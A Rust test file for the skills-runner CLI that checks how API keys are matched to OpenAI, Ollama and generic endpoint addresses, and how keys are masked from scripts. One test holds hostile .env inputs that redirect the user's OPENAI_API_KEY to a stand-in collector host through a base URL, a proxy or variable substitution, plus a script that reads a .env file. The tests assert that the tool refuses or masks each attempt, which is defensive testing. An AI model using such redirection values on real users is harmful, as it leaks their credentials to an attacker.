//! `OPENAI_BASE_URL` and `OLLAMA_HOST` as the address, and which key goes where.

use super::without_settings;
use crate::harness::{CANARY, Reply, Request, Server, Test};

fn authorization(request: &Request) -> Option<&str> {
    request.header("authorization")
}

/// Variables, the key that is sent, and the model.
type AddressRow<'r> = (&'r [(&'r str, String)], Option<&'r str>, &'r str);

/// Each address gets its own key and no other one.
#[test]
fn each_address_gets_only_its_own_key() {
    let server = Server::always(|_| Reply::text("ok"));
    let (url, port) = (server.url(), server.port());
    let all = |test: Test| {
        let test = test.env("LLM_API_KEY", "key-of-llm").env("OPENAI_API_KEY", CANARY);
        test.env("OPENAI_MODEL", "openai-model").env("LLM_MODEL_NAME", "llm-model")
    };
    let test = all(without_settings(&server));
    let table: [AddressRow<'_>; 8] = [
        (&[("OPENAI_BASE_URL", url.clone())], Some(CANARY), "llm-model"),
        (
            &[("OPENAI_BASE_URL", format!("{url}/")), ("LLM_MODEL_NAME", String::new())],
            Some(CANARY),
            "openai-model",
        ),
        (
            &[("OPENAI_BASE_URL", url.clone()), ("OLLAMA_HOST", "http://127.0.0.1:1".into())],
            Some(CANARY),
            "llm-model",
        ),
        (&[("OPENAI_BASE_URL", url.clone()), ("OPENAI_API_KEY", "none".into())], None, "llm-model"),
        (&[("OLLAMA_HOST", format!("0.0.0.0:{port}"))], None, "llm-model"),
        (&[("OLLAMA_HOST", format!(":{port}"))], None, "llm-model"),
        (&[("OLLAMA_HOST", format!("http://localhost:{port}/"))], None, "llm-model"),
        (
            &[
                ("LLM_API_BASE_URL", url.clone()),
                ("OPENAI_BASE_URL", "http://127.0.0.1:1".into()),
                ("OLLAMA_HOST", "127.0.0.1:1".into()),
            ],
            Some("key-of-llm"),
            "llm-model",
        ),
    ];
    for (variables, _, _) in &table {
        let set = |test: Test, (name, value): &(&str, String)| test.env(name, value);
        let run = variables.iter().fold(test.next_run(), set).args(["hi"]).run();
        run.success().stdout("ok\n");
    }
    let requests = server.finish();
    for (request, (variables, key, model)) in requests.iter().zip(&table) {
        assert_eq!(request.path, "/v1/chat/completions");
        let expected = key.map(|key| format!("Bearer {key}"));
        assert_eq!(authorization(request), expected.as_deref(), "{variables:?}");
        assert_eq!(request.json["model"], *model, "{variables:?}");
    }
}

/// The key and the headers that belong to another address are not sent, and other data is.
#[test]
fn extra_headers_go_only_to_the_address_in_llm_api_base_url() {
    let server = Server::always(|_| Reply::text("ok"));
    let test = without_settings(&server)
        .env("LLM_EXTRA_HEADERS", r#"{"x-gateway": "gateway-token"}"#)
        .env("LLM_EXTRA_BODY", r#"{"seed": 3}"#)
        .env("LLM_MODEL_NAME", "m");
    let host = format!("127.0.0.1:{}", server.port());
    for (name, address) in [("OPENAI_BASE_URL", &server.url()), ("OLLAMA_HOST", &host)] {
        let run = test.next_run().env(name, address).args(["-q", "hi"]).run().success();
        run.stderr_has(&format!(
            "LLM_EXTRA_HEADERS (environment) is not sent to the address in {name}: set LLM_API_BASE_URL"
        ));
    }
    for request in server.finish() {
        assert_eq!((request.header("x-gateway"), &request.json["seed"]), (None, &3.into()));
    }
}

/// The address of another machine: Ollama needs no key there, OpenAI does.
#[test]
fn only_ollama_needs_no_key_on_another_machine() {
    let server = Server::start([Reply::text("ok")]);
    let proxy = format!("http://127.0.0.1:{}", server.port());
    let test = without_settings(&server).env("HTTP_PROXY", proxy).env("LLM_MODEL_NAME", "m");
    let test = test.env("LLM_API_KEY", CANARY);
    let run = test.next_run().env("OLLAMA_HOST", "http://ollama.test/base").args(["hi"]).run();
    run.success().stdout("ok\n");
    let requests = server.finish();
    assert_eq!(requests[0].path, "http://ollama.test:80/base/v1/chat/completions");
    assert_eq!(authorization(&requests[0]), None);
    let run = test.next_run().env("OPENAI_BASE_URL", "http://api.test/v1").args(["hi"]).run();
    run.status(78).stderr(
        "skills-runner: failed to read the configuration: OPENAI_API_KEY is not set; LLM_API_KEY is only for LLM_API_BASE_URL\nhint: run `skills-runner init`, or copy what fits into the shell:\n  export OPENAI_API_KEY=KEY # none: it needs no key\n(`skills-runner demo` needs none)\n",
    );
    let test = test.env("OPENAI_BASE_URL", "api.test").env("OPENAI_API_KEY", "k");
    let run = test.args(["hi"]).run().status(78);
    run.stderr_has("OPENAI_BASE_URL (environment) is not a valid address: it does not start with");
    let run = Test::new().env("OLLAMA_HOST", "https://me:pw@h").args(["hi"]).run().status(78);
    run.stderr_has("OLLAMA_HOST (environment) is not a valid address").stderr_lacks("me:pw");
}

/// Environment files, which may be another program's, set none of these variables.
#[test]
fn no_file_sets_the_variables_of_other_programs() {
    let server = Server::start([]);
    let lines = format!(
        "OPENAI_BASE_URL={}\nOPENAI_API_KEY={CANARY}\nOPENAI_MODEL=m\nOLLAMA_HOST=127.0.0.1:{}\n",
        server.url(),
        server.port()
    );
    let test = without_settings(&server).dotenv(&lines).file("home/other.env", &lines);
    let test = test.file("home/.config/skills-runner/.env", &lines);
    for (args, file) in [(&["hi"][..], ".env"), (&["--env-file", "home/other.env", "hi"], "other")]
    {
        let run = test.next_run().args(args).run().status(78);
        run.stderr_has("LLM_API_BASE_URL is not set")
            .stderr_has(file)
            .stderr_has(" line 1) is read from the environment only: set LLM_API_BASE_URL\n");
    }
    // A model and a key do not count either.
    let test = test.env("OPENAI_BASE_URL", "https://api.test/v1");
    let run = test.args(["hi"]).run().status(78);
    run.stderr_has("LLM_MODEL_NAME is not set").stderr_has("OPENAI_API_KEY is not set");
    server.finish();
}

/// An untrusted `./.env` does not get a key of the user to an address, proxy or file of its own.
#[test]
fn untrusted_file_cannot_catch_the_key_of_another_program() {
    let server = Server::always(|_| Reply::text("ok"));
    let url = server.url();
    let own = [("OPENAI_API_KEY", CANARY), ("OPENAI_BASE_URL", "http://api.test/v1")];
    let own =
        own.iter().fold(without_settings(&server), |test, (name, value)| test.env(name, value));
    let own = own.env("OPENAI_MODEL", "m");
    let refused = [
        // The address of the file is used, without the key, which it has to bring along.
        ("LLM_API_BASE_URL=https://collector.example/v1", "LLM_API_KEY is not set"),
        (
            "LLM_API_BASE_URL=https://collector.example/v1\nLLM_API_KEY=${OPENAI_API_KEY}",
            "LLM_API_KEY (.env line 2) gets no variables of the environment",
        ),
        (
            "LLM_API_BASE_URL=https://collector.example/v1\nLLM_API_KEY=k\nLLM_MODEL_NAME=${OPENAI_API_KEY}",
            "LLM_MODEL_NAME (.env line 3) gets no variables of the environment",
        ),
        (
            "http_proxy=http://collector.example",
            "OPENAI_API_KEY (environment) is not sent through the proxy http://collector.example",
        ),
    ];
    for (lines, expected) in refused {
        let run = own.next_run().dotenv(lines).args(["hi"]).run();
        run.status(78).stderr_has(expected);
    }
    let roots = "-----BEGIN CERTIFICATE-----\nAA==\n-----END CERTIFICATE-----\n";
    let test = own.next_run().env("OPENAI_BASE_URL", "https://api.test/v1").file("ca.pem", roots);
    let run = test.dotenv("SSL_CERT_FILE=ca.pem").args(["hi"]).run();
    run.status(78).stderr_has("OPENAI_API_KEY (environment) is not sent with the trusted cert");
    // On this machine, where no key is required.
    let lines = format!("LLM_API_BASE_URL={url}\nLLM_MODEL_NAME=m\nOPENAI_API_KEY=x\n");
    own.next_run().dotenv(&lines).args(["hi"]).run().success();
    // Its lines for the other address are not used.
    let lines = format!("OPENAI_BASE_URL={url}\nOLLAMA_HOST={url}\n");
    own.next_run().dotenv(&lines).env("NO_PROXY", "*").args(["hi"]).run().status(75);
    let requests = server.finish();
    assert_eq!(requests.len(), 1);
    assert_eq!(authorization(&requests[0]), None);
}

/// A key that is sent to the endpoint is kept from scripts. The key of another program is not if
/// `SCRIPT_ENV` names it. Both are masked.
#[test]
fn key_in_use_is_kept_from_scripts_and_every_key_is_masked() {
    let document = "---\nname: s\ndescription: S.\n---\n";
    let script =
        "import os; print('key', os.environ.get('OPENAI_API_KEY'), os.environ.get('COPY'))";
    let call = serde_json::json!({"skill_name": "s", "script": script}).to_string();
    let test = Test::new().skill("s", document).env("OPENAI_API_KEY", CANARY);
    let test = test.env("COPY", format!("({CANARY})"));
    let table = [
        ("OPENAI_BASE_URL", "https://api.openai.test/v1", "key None None"),
        ("OLLAMA_HOST", "localhost", "key [secret] ([secret])"),
        ("LLM_API_BASE_URL", "https://llm.test/v1", "key [secret] ([secret])"),
    ];
    for (name, address, expected) in table {
        let run = test.next_run().env(name, address).env("SCRIPT_ENV", "OPENAI_API_KEY");
        let run = run.args(["tool", "run_python_script", &call]).run().success();
        run.stdout_has(expected);
    }
    // The same key under another name.
    let run = test.next_run().dotenv("LLM_API_KEY=${OPENAI_API_KEY}\n");
    let run = run.args(["--env-file", ".env", "tool", "run_python_script", &call]).run().success();
    run.stdout_has("key None None");
    // A key in a file that is not used for requests.
    let read = r#"{"skill_name": "s", "script": "import os; print(open(os.environ['USER_CWD'] + '/.env').read())"}"#;
    let test = Test::new().skill("s", document).dotenv(&format!("OPENAI_API_KEY={CANARY}\n"));
    let run = test.args(["tool", "run_python_script", read]).run().success();
    run.stdout_has("OPENAI_API_KEY=[secret]");
}

/// `-v` and `doctor` name where address and key come from; a refusal names the right variables.
#[test]
fn origin_of_address_and_key_is_named() {
    let server = Server::of_all_requests(|request| match request.path.as_str() {
        "/v1/models" => Reply::models(["m"]),
        _ => Reply::error(401, "no"),
    });
    let (url, port) = (server.url(), server.port());
    let test = without_settings(&server).env("OPENAI_API_KEY", CANARY).env("LLM_MODEL_NAME", "m");
    let openai = test.clone().env("OPENAI_BASE_URL", &url);
    let run = openai.next_run().args(["-v", "hi"]).run().status(77);
    run.stderr_has(&format!(
        "· endpoint {url} from OPENAI_BASE_URL (environment), key from OPENAI_API_KEY (environment); model m from LLM_MODEL_NAME (environment)\n"
    ))
    .stderr_has("hint: check OPENAI_API_KEY, and that OPENAI_BASE_URL is the endpoint it is for\n");
    let run = openai.next_run().args(["doctor"]).run().status(77);
    run.stdout_has("/v1/chat/completions, direct, from OPENAI_BASE_URL (environment)\n")
        .stdout_has("  OPENAI_API_KEY=[secret] (environment)\n");
    let run = openai.env_unset("OPENAI_API_KEY").args(["hi"]).run().status(77);
    run.stderr_has("hint: no key was sent: set OPENAI_API_KEY\n");
    let ollama = test.env("OLLAMA_HOST", format!(":{port}"));
    let run = ollama.next_run().args(["-v", "hi"]).run().status(77);
    run.stderr_has("/v1 from OLLAMA_HOST (environment), no key; model m from").stderr_has(
        "hint: no key is sent to the address in OLLAMA_HOST: set LLM_API_BASE_URL and LLM_API_KEY\n",
    );
    server.finish();
    let server = Server::of_all_requests(|request| match request.path.as_str() {
        "/v1/models" => Reply::models(["m"]),
        "/v1/chat/completions" => Reply::text("ok"),
        _ => Reply::status(404),
    });
    let test = Test::new().endpoint(&server).file("key", CANARY).env("LLM_API_KEY", "");
    let run = test.env("LLM_API_KEY_FILE", "key").args(["doctor", "--json"]).run().success();
    let checks = run.stdout_json()["checks"].clone();
    assert_eq!(checks[1]["details"]["origin"], "LLM_API_BASE_URL (environment)");
    assert_eq!(checks[3]["details"]["origin"], "LLM_API_KEY_FILE (environment)");
    assert_eq!(checks[3]["message"], "accepted, from LLM_API_KEY_FILE (environment)");
    server.finish();
    let run = Test::new().env("OPENAI_BASE_URL", "http://127.0.0.1:1/v1").env("OPENAI_MODEL", "m");
    run.args(["hi"]).run().status(75).stderr_has("correct OPENAI_BASE_URL");
}
